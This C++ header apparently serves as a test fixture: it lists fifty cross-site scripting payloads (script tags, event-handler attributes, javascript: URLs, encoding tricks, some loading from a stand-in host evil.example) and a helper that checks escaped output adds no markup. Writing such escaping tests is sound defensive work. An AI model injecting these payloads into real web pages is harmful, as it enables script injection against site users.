// Names that would be markup, for whatever writes names into a page.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace drey {

// Fifty ways to smuggle a script or an attribute into a page.
inline std::vector<std::string> payloads() {
  std::vector<std::string> all = {
      "<script>alert(1)</script>",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "\"><img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<body onload=alert(1)>",
      "<iframe src=javascript:alert(1)>",
      "<a href=javascript:alert(1)>x</a>",
      "<input autofocus onfocus=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)>",
      "<math><mi xlink:href=javascript:alert(1)>",
      "<form action=javascript:alert(1)><button>",
      "<object data=javascript:alert(1)>",
      "<embed src=javascript:alert(1)>",
      "<link rel=stylesheet href=//evil.example>",
      "<meta http-equiv=refresh content=0;url=//evil.example>",
      "<base href=//evil.example>",
      "<!--<script>alert(1)",
      "--><script>alert(1)</script>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\" autofocus onfocus=alert(1) x=\"",
      "` onmouseover=`alert(1)",
      "x\" style=\"background:url(javascript:alert(1))",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;",
      "&quot; onclick=alert(1)",
      "{name}",
      "{sentence}<script>",
      "{\"set\":\"x\"}",
      "\"}, \"x\": \"<script>",
      "\\\"><script>alert(1)</script>",
      "\\u003cscript\\u003ealert(1)",
      "<ScRiPt>alert(1)</sCrIpT>",
      "<script/x>alert(1)</script>",
      "<script\n>alert(1)</script>",
      "<<script>alert(1)</script>",
      "<script src=//evil.example></script>",
      "<style>*{background:url(//evil.example)}</style>",
      "<img src=\"x:x\" onerror=\"alert(1)\"",
      "\xc0\xbcscript\xc0\xbe",
      "\xe2\x80\xae<script>",
  };
  return all;
}

inline size_t count_of(std::string_view text, std::string_view what) {
  size_t found = 0;
  for (size_t at = 0; (at = text.find(what, at)) != std::string::npos; at += what.size()) ++found;
  return found;
}

// Not one tag, not one quote more in `text` than in `plain`, written with a plain name.
inline bool same_markup(std::string_view text, std::string_view plain) {
  for (const char* mark : {"<", ">", "\"", "'"})
    if (count_of(text, mark) != count_of(plain, mark)) return false;
  return true;
}

}  // namespace drey
